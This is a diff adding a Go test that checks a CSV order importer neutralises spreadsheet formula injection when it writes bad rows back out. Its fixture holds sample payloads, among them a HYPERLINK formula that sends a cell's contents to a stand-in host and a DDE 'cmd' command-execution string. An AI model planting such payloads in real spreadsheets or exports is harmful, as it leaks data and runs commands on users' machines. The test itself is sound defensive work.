@@ -2,8 +2,10 @@ package orderfile_test
 
 import (
 	"bytes"
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
+	"slices"
 	"strings"
 	"testing"
 
@@ -177,6 +179,34 @@ func TestBadRowsComeBack(t *testing.T) {
 	again, problems := read(t, strings.Replace(b.String(), "x,", "3,", 1)).Orders("")
 	if len(again) != 1 || len(problems) != 0 {
 		t.Errorf("the mended rows gave %v, %v", bodies(again), problems)
+	}
+}
+
+// A spreadsheet in which somebody mends the rows computes nothing that a shopper wrote, and importing them again loses nothing.
+func TestBadRowsComputeNothing(t *testing.T) {
+	t.Parallel()
+	const name = "=HYPERLINK(\"\"https://evil.example/\"\"&A1)"
+	file := "order_number,item_name,phone,\"=cmd|' /C calc'!A0\",item_quantity\n-1,\"" + name + "\",+15550100,@SUM(A1),x\n'tis,Rock 'n' roll,\"\t=1\",'=2,x\n"
+	table := read(t, file)
+	_, problems := table.Orders("")
+	var b bytes.Buffer
+	if err := table.WriteRows(&b, problems); err != nil {
+		t.Fatal(err)
+	}
+	cells, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, cell := range slices.Concat(cells...) {
+		if cell != "" && strings.Contains("=+-@\t\r", cell[:1]) {
+			t.Errorf("the file has the cell %q", cell)
+		}
+	}
+	mended := strings.ReplaceAll(b.String(), ",x,", ",1,")
+	want, _ := read(t, strings.ReplaceAll(file, ",x\n", ",1\n")).Orders("")
+	got, problems := read(t, mended).Orders("")
+	if diff := cmp.Diff(bodies(want), bodies(got)); diff != "" || len(problems) > 0 || len(got) != 2 {
+		t.Errorf("mended it gives other orders, problems %v (-want +got):\n%s", problems, diff)
 	}
 }
 
